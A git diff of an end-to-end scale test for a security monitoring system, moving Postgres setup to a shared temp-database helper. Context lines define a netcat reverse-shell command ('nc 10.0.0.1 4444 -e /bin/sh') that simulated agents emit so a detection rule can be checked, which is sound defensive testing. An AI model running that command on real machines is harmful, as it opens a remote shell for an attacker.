@@ -15,8 +15,6 @@ import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
 import { createServer } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { randomBytes } from 'node:crypto';
-import pg from 'pg';
 import { createClient } from 'redis';
 import { SimulatedAgent } from '../../src/agent/simulator.ts';
 import { jsonCodec } from '../../src/bus/codec.ts';
@@ -30,12 +28,12 @@ import { ApiKeys } from '../../src/identity/api-key.ts';
 import { openPostgresIdentityStore } from '../../src/stores/identity/postgres.ts';
 import { ClickHouseHttpEngine } from '../../src/stores/events/clickhouse-http.ts';
 import { PostgresMetadataStore } from '../../src/stores/metadata/postgres.ts';
+import { createTempDatabase, type TempDatabase } from '../support/postgres.ts';
 import { spawnClickHouseFixture } from '../fixtures/clickhouse-http-server.ts';
 import { freePort, spawnRole, stopProcess, type RoleProcess } from '../fixtures/vigil-roles.ts';
 import { until } from '../response/helpers.ts';
 
 const NATS_SERVER = process.env.VIGIL_TEST_NATS_SERVER ?? '/usr/sbin/nats-server';
-const PG_ADMIN = { host: '127.0.0.1', port: 5432, user: 'postgres', database: 'postgres' };
 const REDIS_URL = 'redis://127.0.0.1:6379';
 const AGENTS = 6;
 const BATCH = 25;
@@ -45,16 +43,10 @@ const NETCAT_EVERY = 6; // every 6th batch of an agent carries one reverse shell
 const NETCAT = { executable: '/usr/bin/nc', args: ['nc', '10.0.0.1', '4444', '-e', '/bin/sh'] };
 const NETCAT_RULE = '5b1c7e2a-0d4f-4a6b-9c3e-7a1d00000001'; // rules/builtin/lnx_netcat_reverse_shell.yml
 
-async function pgAdmin(sql: string): Promise<void> {
-  const c = new pg.Client(PG_ADMIN);
-  await c.connect();
-  try { await c.query(sql); } finally { await c.end(); }
-}
-
 const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
 
 let dir: string;
-let database: string;
+let db: TempDatabase;
 let natsPort: number;
 let nats: ChildProcess | undefined;
 let clickhouse: Awaited<ReturnType<typeof spawnClickHouseFixture>>;
@@ -82,7 +74,7 @@ async function waitForPort(port: number): Promise<void> {
 function env(): NodeJS.ProcessEnv {
   return {
     ...process.env, VIGIL_NATS_URL: `nats://127.0.0.1:${natsPort}`, VIGIL_CLICKHOUSE_URL: clickhouse.url,
-    VIGIL_POSTGRES_URL: `postgres://postgres@127.0.0.1:5432/${database}`, VIGIL_PKI_DIR: join(dir, 'pki'),
+    VIGIL_POSTGRES_URL: db.url, VIGIL_PKI_DIR: join(dir, 'pki'),
     VIGIL_REDIS_URL: REDIS_URL, VIGIL_EVENT_PARTITIONS: '4', VIGIL_ACK_WAIT_MS: '3000', VIGIL_PARTITION_LEASE_MS: '2000', VIGIL_HEALTH: '127.0.0.1:0', VIGIL_LOG_LEVEL: 'warn',
   };
 }
@@ -100,8 +92,7 @@ async function kill(p: ChildProcess, signal: NodeJS.Signals): Promise<void> {
 
 before(async () => {
   dir = mkdtempSync(join(tmpdir(), 'vigil-scale-e2e-'));
-  database = `vigil_test_scale_${randomBytes(6).toString('hex')}`;
-  await pgAdmin(`CREATE DATABASE ${database}`);
+  db = await createTempDatabase('scale');
   natsPort = await freePort();
   nats = startNats();
   await waitForPort(natsPort);
@@ -113,7 +104,7 @@ before(async () => {
 after(async () => {
   for (const p of [...procs]) await kill(p, 'SIGKILL');
   await clickhouse?.stop();
-  await pgAdmin(`DROP DATABASE IF EXISTS ${database} WITH (FORCE)`);
+  await db?.drop();
   rmSync(dir, { recursive: true, force: true });
 });
 
@@ -151,8 +142,8 @@ test('SIGKILLed worker (partitions taken over) and ingest, restarted NATS: every
   await split(workers);
   const api = await role(['api', '--http', '127.0.0.1:0']);
 
-  const metadata = new PostgresMetadataStore({ connectionString: `postgres://postgres@127.0.0.1:5432/${database}` });
-  const identity = await openPostgresIdentityStore({ connectionString: `postgres://postgres@127.0.0.1:5432/${database}` });
+  const metadata = new PostgresMetadataStore({ connectionString: db.url });
+  const identity = await openPostgresIdentityStore({ connectionString: db.url });
   const { key: apiKey, record: keyRecord } = await new ApiKeys({ store: identity }).create({ tenantId: 'default', name: 'e2e', role: 'admin', createdBy: 'test' });
   await identity.close();
   const caPem = (await loadOrCreateCa(join(dir, 'pki'))).certPem;
@@ -242,7 +233,7 @@ async function assertRateLimitedInRedis(http: string, apiKey: string, key: strin
 async function assertAlertsOnce(expected: string[], http: string, apiKey: string): Promise<void> {
   assert.equal(expected.length, AGENTS * Math.ceil(BATCHES / NETCAT_EVERY));
   const want = [...expected].sort();
-  const store = new PostgresAlertStore({ connectionString: `postgres://postgres@127.0.0.1:5432/${database}` });
+  const store = new PostgresAlertStore({ connectionString: db.url });
   try {
     let stored: string[] = [];
     for (let i = 0; i < 200 && stored.length < want.length; i++) {
